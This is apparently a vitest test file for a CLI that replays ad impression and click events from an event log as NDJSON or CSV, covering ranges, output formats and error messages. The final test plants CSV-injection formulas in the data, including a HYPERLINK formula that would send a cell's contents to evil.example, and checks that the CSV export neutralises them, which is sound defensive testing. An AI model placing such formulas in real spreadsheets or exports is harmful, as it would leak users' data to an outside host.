import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { beforeAll, describe, expect, it } from 'vitest';
import { adActivityStream } from '@kainga/contracts';
import { SqliteEventStore } from '@kainga/platform';
import { adLogDataDir, click } from '@kainga/projections/ad-records/testing';
import { main, REPLAY_USAGE } from './replay-cli';

/** A stream that keeps what is written to it (not a terminal, so no progress bar is drawn). */
function sink() {
  let text = '';
  const stream = new Writable({
    write(chunk: Buffer | string, _encoding, done) {
      text += chunk.toString();
      done();
    },
  });
  return { stream, text: () => text };
}

let dataDir: string;
let outDir: string;
beforeAll(async () => {
  dataDir = await adLogDataDir();
  outDir = mkdtempSync(join(tmpdir(), 'replay-out-'));
});

let runs = 0;
/** Runs the CLI on the log of `dir` into a new file; answers its exit code, the file's bytes and standard error. */
async function replayIn(dir: string, ...args: string[]) {
  const file = join(outDir, `out-${(runs += 1)}`);
  const stderr = sink();
  const code = await main(['ads', ...args, '--out', file], { env: { DATA_DIR: dir }, stderr: stderr.stream });
  return { code, bytes: code === 0 ? readFileSync(file) : Buffer.alloc(0), stderr: stderr.text() };
}
/** The same on the fixture's log (ad-log.fixture.ts). */
const replay = (...args: string[]) => replayIn(dataDir, ...args);
const positionsIn = (ndjson: Buffer) =>
  ndjson
    .toString()
    .split('\n')
    .filter(Boolean)
    .map((line) => Number((JSON.parse(line) as { position: string }).position));

describe('npm run replay -- ads', () => {
  it('writes exactly the impressions and clicks of the range as NDJSON, keys in the fixed order, and counts them on stderr', async () => {
    const { code, bytes, stderr } = await replay('--from', '4', '--to', '6');
    expect(code).toBe(0);
    expect(bytes.toString()).toBe(
      '{"position":"00000000000000000004","recordedAt":"2026-03-01T23:59:59.999Z","kind":"click","eventId":"event-click-1","activityId":"click-1","at":"2026-03-01T23:59:59.990Z","adContentId":"ad-1","subscriptionId":"sub-1","partnerId":"partner-1","tier":"silver","placement":"mortgage_calculator","city":"Wellington","suburb":"Te Aro","userId":"user-9","propertyId":"property-7","userAgent":"Agent \\"X\\", v2","ipHash":"ip-hash","sessionHash":"session-hash"}\n' +
        '{"position":"00000000000000000005","recordedAt":"2026-03-02T00:00:00.000Z","kind":"impression","eventId":"event-impression-3","activityId":"impression-3","at":"2026-03-02T00:00:00.000Z","adContentId":"ad-1","subscriptionId":"sub-1","partnerId":"partner-1","tier":"gold","placement":"sidebar_valuation","city":"Wellington","suburb":"Te Aro","userId":null,"propertyId":null,"userAgent":"Mozilla/5.0","ipHash":"ip-hash","sessionHash":"session-hash"}\n',
    );
    expect(stderr).toMatch(/^1 impressions, 1 clicks \(2 events\) in \d+\.\d\d s: \d+ events\/s\n$/);
  });

  it('writes RFC 4180 CSV: a fixed header, quoted fields where needed, empty fields for nulls, CRLF', async () => {
    const { code, bytes } = await replay('--format', 'csv', '--from', '2', '--to', '00000000000000000005');
    expect(code).toBe(0);
    expect(bytes.toString()).toBe(
      'position,recordedAt,kind,eventId,activityId,at,adContentId,subscriptionId,partnerId,tier,placement,city,suburb,userId,propertyId,userAgent,ipHash,sessionHash\r\n' +
        '00000000000000000002,2026-03-01T10:00:00.000Z,impression,event-impression-2,impression-2,2026-03-01T09:59:59.900Z,ad-1,sub-1,partner-1,gold,sidebar_valuation,,,,,Mozilla/5.0,ip-hash,session-hash\r\n' +
        '00000000000000000004,2026-03-01T23:59:59.999Z,click,event-click-1,click-1,2026-03-01T23:59:59.990Z,ad-1,sub-1,partner-1,silver,mortgage_calculator,Wellington,Te Aro,user-9,property-7,"Agent ""X"", v2",ip-hash,session-hash\r\n',
    );
  });

  it('gives the same bytes for the same range every time, in both formats', async () => {
    for (const args of [[], ['--format', 'csv'], ['--from', '2026-03-01T10:30:00Z', '--to', '2026-03-02']]) {
      const first = await replay(...args);
      const second = await replay(...args);
      expect(first.code).toBe(0);
      expect(first.bytes.length).toBeGreaterThan(0);
      expect(second.bytes.equals(first.bytes)).toBe(true);
    }
  });

  it('reads the whole log by default, in log order, leaving out every other event type', async () => {
    const { bytes, stderr } = await replay();
    expect(positionsIn(bytes)).toEqual([1, 2, 4, 5, 7, 8]);
    expect(bytes.toString()).not.toContain('AdSubscriptionStarted');
    expect(stderr).toMatch(/^4 impressions, 2 clicks \(6 events\)/);
  });

  it('bounds by recorded time, [from, to): a day is its first instant (UTC) at either end, a timestamp an instant', async () => {
    expect(positionsIn((await replay('--from', '2026-03-02')).bytes)).toEqual([5, 7, 8]);
    // --to names the first day left out: event 5, at midnight starting 2 March, is not in this range.
    expect(positionsIn((await replay('--to', '2026-03-02')).bytes)).toEqual([1, 2, 4]);
    expect(positionsIn((await replay('--to', '2026-03-01')).bytes)).toEqual([]);
    expect(positionsIn((await replay('--from', '2026-03-01', '--to', '2026-03-02')).bytes)).toEqual([1, 2, 4]);
    expect(positionsIn((await replay('--from', '2026-03-01T10:00:00.001Z', '--to', '2026-03-02T09:00:00Z')).bytes)).toEqual([4, 5]);
    // The same instant in New Zealand time (UTC+13 in March).
    expect(positionsIn((await replay('--from', '2026-03-02T13:00:00+13:00')).bytes)).toEqual([5, 7, 8]);
    expect(positionsIn((await replay('--from', '2026-03-03')).bytes)).toEqual([]);
  });

  it('bounds by position: --from inclusive, --to exclusive, also mixed with a date', async () => {
    expect(positionsIn((await replay('--from', '5')).bytes)).toEqual([5, 7, 8]);
    expect(positionsIn((await replay('--from', '3', '--to', '7')).bytes)).toEqual([4, 5]);
    expect(positionsIn((await replay('--to', '00000000000000000004')).bytes)).toEqual([1, 2]);
    expect(positionsIn((await replay('--from', '0', '--to', '2026-03-02')).bytes)).toEqual([1, 2, 4]);
    expect(positionsIn((await replay('--from', '8')).bytes)).toEqual([8]);
    expect(positionsIn((await replay('--from', '9')).bytes)).toEqual([]);
  });

  it('never counts an event twice in chained ranges: D1..D2 then D2..D3 together are D1..D3 (issue 49)', async () => {
    // Each split point has an event on it or right beside it (5 is at 2026-03-02T00:00:00.000Z, 4 a millisecond before).
    for (const [d1, d2, d3] of [
      ['2026-03-01', '2026-03-02', '2026-03-03'],
      ['2026-03-01T00:00:00Z', '2026-03-02T00:00:00Z', '2026-03-03T00:00:00Z'],
      ['2026-03-01T10:00:00Z', '2026-03-02T09:00:00Z', '2026-03-03'],
      ['1', '5', '9'],
      ['2', '4', '2026-03-03'],
    ]) {
      const first = positionsIn((await replay('--from', d1!, '--to', d2!)).bytes);
      const second = positionsIn((await replay('--from', d2!, '--to', d3!)).bytes);
      const whole = positionsIn((await replay('--from', d1!, '--to', d3!)).bytes);
      expect(first.filter((p) => second.includes(p)), `${d1}..${d2}..${d3}`).toEqual([]);
      expect([...first, ...second], `${d1}..${d2}..${d3}`).toEqual(whole);
      expect(whole.length, `${d1}..${d3}`).toBeGreaterThan(first.length);
    }
    // Every day of the log, chained, is the whole log once.
    const days = ['2026-03-01', '2026-03-02', '2026-03-03'];
    const chained = [];
    for (let i = 0; i + 1 < days.length; i++) chained.push(...positionsIn((await replay('--from', days[i]!, '--to', days[i + 1]!)).bytes));
    expect(chained).toEqual(positionsIn((await replay()).bytes));
  });

  it('writes to standard output when no --out is given, the same bytes as to a file', async () => {
    const stdout = sink();
    const stderr = sink();
    expect(await main(['ads', '--format', 'csv'], { env: { DATA_DIR: dataDir }, stdout: stdout.stream, stderr: stderr.stream })).toBe(0);
    expect(stdout.text()).toBe((await replay('--format', 'csv')).bytes.toString());
    expect(stdout.text()).not.toContain('impressions,');
    expect(stderr.text()).toMatch(/^4 impressions, 2 clicks/);
  });

  it.each([
    [['ads', '--from', 'yesterday'], '--from yesterday: expected a date (YYYY-MM-DD), a timestamp with its zone (e.g. 2026-03-01T10:00:00Z) or a log position (a whole number).'],
    [['ads', '--to', '2026-02-30'], '--to 2026-02-30: no such day (expected YYYY-MM-DD).'],
    [['ads', '--from', '2026-03-01T10:00:00'], '--from 2026-03-01T10:00:00: expected a date'],
    [['ads', '--from', '-5'], "Option '--from' argument is ambiguous"],
    [['ads', '--from', '123456789012345678901'], '--from 123456789012345678901: a position has at most 20 digits.'],
    [['ads', '--from', '2026-03-02', '--to', '2026-03-01'], '--to 2026-03-01 is not after --from 2026-03-02: the range is empty.'],
    [['ads', '--from', '2026-03-02', '--to', '2026-03-02'], '--to 2026-03-02 is not after --from 2026-03-02: the range is empty.'],
    [['ads', '--from', '2026-03-02T10:00:00Z', '--to', '2026-03-02T10:00:00Z'], '--to 2026-03-02T10:00:00Z is not after --from 2026-03-02T10:00:00Z: the range is empty.'],
    [['ads', '--from', '7', '--to', '3'], '--to 3 is not after --from 7: the range is empty.'],
    [['ads', '--from', '7', '--to', '7'], '--to 7 is not after --from 7: the range is empty.'],
    [['ads', '--format', 'xlsx'], '--format xlsx: expected ndjson, csv or parquet.'],
    [['ads', '--form', '2026-03-01'], "Unknown option '--form'"],
    [['ads', '--from'], "Option '--from <value>' argument missing"],
    [['ads', '--out', '/no/such/dir/ads.ndjson'], '--out /no/such/dir/ads.ndjson: the directory /no/such/dir does not exist.'],
    [['ads', '--out', '/tmp'], '--out /tmp is a directory; name a file.'],
    [[], 'Say what to replay: ads.'],
    [['leads'], 'Cannot replay "leads": only ads can be replayed.'],
    [['ads', 'extra'], 'Unexpected argument "extra".'],
  ])('refuses %j with exit code 2, saying why and how to call it', async (args, message) => {
    const stderr = sink();
    expect(await main(args, { env: { DATA_DIR: dataDir }, stderr: stderr.stream })).toBe(2);
    expect(stderr.text()).toContain(message);
    expect(stderr.text()).toContain(REPLAY_USAGE);
  });

  it('refuses a DATA_DIR without an event log (exit code 2) rather than replaying an empty one', async () => {
    const stderr = sink();
    const empty = mkdtempSync(join(tmpdir(), 'replay-empty-'));
    expect(await main(['ads'], { env: { DATA_DIR: empty }, stderr: stderr.stream })).toBe(2);
    expect(stderr.text()).toBe(`No event log at ${join(empty, 'events.sqlite')}: set DATA_DIR to the directory of the Kāinga data to replay.\n`);
  });

  it('reports a failing output with exit code 1', async () => {
    const stdout = new Writable({ write: (_chunk, _encoding, done) => done(new Error('disk full')) });
    const stderr = sink();
    expect(await main(['ads'], { env: { DATA_DIR: dataDir }, stdout, stderr: stderr.stream })).toBe(1);
    expect(stderr.text()).toBe('Replay failed: disk full\n');
  });

  it('prints its help with --help and exits 0', async () => {
    const stderr = sink();
    expect(await main(['--help'], { env: { DATA_DIR: dataDir }, stderr: stderr.stream })).toBe(0);
    expect(stderr.text()).toMatch(/^Usage: npm run replay -- ads .*\n\nWrites the ad impressions and clicks/);
    expect(stderr.text()).toContain("--to     end (YYYY-MM-DD, UTC, that day's first instant), instant or log position; exclusive");
  });
});

describe('npm run replay -- ads --format csv with formulas in the anonymous fields', () => {
  it('neutralises a city, suburb, property id or user agent a spreadsheet would run; NDJSON keeps them as recorded', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'replay-formulas-'));
    const store = new SqliteEventStore(join(dir, 'events.sqlite'));
    const formulas = { city: '=HYPERLINK("https://evil.example/?leak="&A1,"Open")', suburb: '-1+1', propertyId: '+SUM(1,2)', userAgent: '@SUM(A1:A9)' };
    try {
      await store.append(adActivityStream('2026-03-01'), [click(1, '2026-03-01T09:00:01.000Z', { ...formulas, userId: 'user-1' })], { expectedRevision: 'no_stream' });
    } finally {
      await store.close();
    }
    const csv = await replayIn(dir, '--format', 'csv');
    expect(csv.code).toBe(0);
    expect(csv.bytes.toString().split('\r\n')[1]).toContain(`,"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Open"")",'-1+1,user-1,"'+SUM(1,2)",'@SUM(A1:A9),ip-hash,`);
    const ndjson = await replayIn(dir);
    expect(JSON.parse(ndjson.bytes.toString())).toMatchObject(formulas);
  });
});
